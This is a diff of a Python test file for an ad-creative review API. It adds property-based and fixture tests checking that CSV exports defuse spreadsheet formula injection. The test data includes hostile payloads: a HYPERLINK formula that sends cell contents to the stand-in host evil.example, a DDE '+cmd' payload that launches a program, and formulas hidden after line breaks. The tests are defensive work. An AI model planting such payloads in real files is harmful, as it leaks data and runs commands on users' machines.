@@ -2,19 +2,24 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import re
+from datetime import UTC, datetime
 from importlib.resources import files
 from pathlib import Path
 
 import pandas as pd
 import pytest
+import sqlalchemy as sa
 from fastapi import FastAPI, HTTPException
 from fastapi.testclient import TestClient
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from adcraft.serve.decisions import EXPORT_COLUMNS, sqlite_url
-from adcraft.serve.review import build_review_router
+from adcraft.serve.decisions import EXPORT_COLUMNS, decisions_table, sqlite_url
+from adcraft.serve.review import FORMULA_STARTS, build_review_router, export_csv
 from adcraft.serve.run_view import RunView
 
 
@@ -105,8 +110,8 @@ def test_a_decision_is_stored_and_shown_with_its_product(client: TestClient) -> 
     ({"decision": None}, 422, "decision"),
     ({"surprise": 1}, 422, "surprise"),
     ({"product_id": ""}, 422, "product_id"),
-    ({"product_id": "no-such-product"}, 400, "no product"),
-    ({"creative_id": "no-such-creative"}, 400, "no proposed creative"),
+    ({"product_id": "no-such-product"}, 404, "no product"),
+    ({"creative_id": "no-such-creative"}, 404, "no proposed creative"),
 ])
 def test_bad_payloads_are_refused_with_a_message_and_store_nothing(client: TestClient, change: dict, status: int,
                                                                    message: str) -> None:
@@ -161,6 +166,74 @@ def test_export_as_parquet_keeps_types(client: TestClient) -> None:
     assert frame.loc[0, "note"] == "=HYPERLINK(\"x\")"
     assert str(frame["decided_at"].dt.tz) == "UTC"
     assert frame.loc[0, "predicted_ctr"] == pytest.approx(approved["predicted_ctr"])
+
+
+def universal_newline_rows(text: str) -> list[list[str]]:
+    """The CSV's rows as a reader that takes CR, LF and CRLF for line breaks sees them."""
+    return list(csv.reader(io.TextIOWrapper(io.BytesIO(text.encode("utf-8")), encoding="utf-8", newline=None)))
+
+
+def starts_a_formula(cell: str) -> bool:
+    """Whether a spreadsheet would run ``cell`` as a formula (numbers such as -0.5 are numbers)."""
+    if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA_STARTS:
+        try:
+            float(cell)
+        except ValueError:
+            return True
+    return False
+
+
+def export_frame(rows: list[tuple[str, str, str, str]]) -> pd.DataFrame:
+    """An export table of ``(product_id, creative_id, element, note)`` rows."""
+    return pd.DataFrame({
+        "product_id": pd.Series([r[0] for r in rows], dtype=object),
+        "creative_id": pd.Series([r[1] for r in rows], dtype=object),
+        "rank": pd.Series(range(1, len(rows) + 1), dtype="int64"),
+        "elements": pd.Series([[r[2]] for r in rows], dtype=object),
+        "image": pd.Series([f"creatives/{r[1]}.png" for r in rows], dtype=object),
+        "predicted_ctr": pd.Series([-0.5] * len(rows), dtype="float64"),
+        "note": pd.Series([r[3] for r in rows], dtype=object),
+        "decided_at": pd.Series(pd.to_datetime([datetime(2026, 1, 2, tzinfo=UTC)] * len(rows), utc=True)),
+    })[list(EXPORT_COLUMNS)]
+
+
+hostile_text = st.one_of(
+    st.text(max_size=30),
+    st.builds(lambda lead, start, rest: lead + start + rest, st.text(" \t\r\n", max_size=3),
+              st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\uff1d", "'", '"']), st.text(max_size=20)),
+    st.sampled_from(['=HYPERLINK("http://evil.example/?"&A1,"click")', "ok\r=1+1", "ok\r\n@SUM(A1)", "-2+3"]),
+)
+
+
+@settings(max_examples=150, deadline=None, database=None, derandomize=True)
+@given(rows=st.lists(st.tuples(hostile_text, hostile_text, hostile_text, hostile_text), max_size=5))
+def test_no_exported_cell_starts_a_formula(rows: list[tuple[str, str, str, str]]) -> None:
+    parsed = universal_newline_rows(export_csv(export_frame(rows)))
+    assert len(parsed) == len(rows) + 1 and parsed[0] == list(EXPORT_COLUMNS)
+    for row, given_row in zip(parsed[1:], rows):
+        assert len(row) == len(EXPORT_COLUMNS)
+        assert not any(starts_a_formula(cell) for cell in row), row
+        product_id, creative_id, note = row[0], row[1], row[6]
+        for cell, original in ((product_id, given_row[0]), (creative_id, given_row[1]), (note, given_row[3])):
+            original = original.replace("\r\n", "\n").replace("\r", "\n")  # what universal newlines read
+            assert cell in (original, "'" + original)  # the text itself is kept
+        assert json.loads(row[3].removeprefix("'")) == [given_row[2]]
+
+
+def test_export_of_hostile_ids_and_notes_is_inert(client: TestClient, tmp_path: Path) -> None:
+    rows = [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "ok\r=1+1"),
+            ("p1", "  @SUM(1+1)", "line one\r\n-2+3")]
+    engine = sa.create_engine(sqlite_url(tmp_path / "decisions.sqlite"))  # rows as a market with such ids makes them
+    with engine.begin() as connection:
+        for product_id, creative_id, note in rows:
+            connection.execute(sa.insert(decisions_table).values(
+                product_id=product_id, creative_id=creative_id, decision="approve", note=note,
+                decided_at=datetime.now(UTC), rank=1, elements=["=1+1"], predicted_ctr=0.1, image="x.png"))
+    engine.dispose()
+    parsed = universal_newline_rows(client.get("/v1/decisions/export", params={"format": "csv"}).text)
+    assert len(parsed) == 1 + len(rows)
+    assert not any(starts_a_formula(cell) for row in parsed for cell in row)
+    assert sorted(row[0] for row in parsed[1:]) == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "p1"]
 
 
 def test_an_unknown_export_format_is_refused(client: TestClient) -> None:
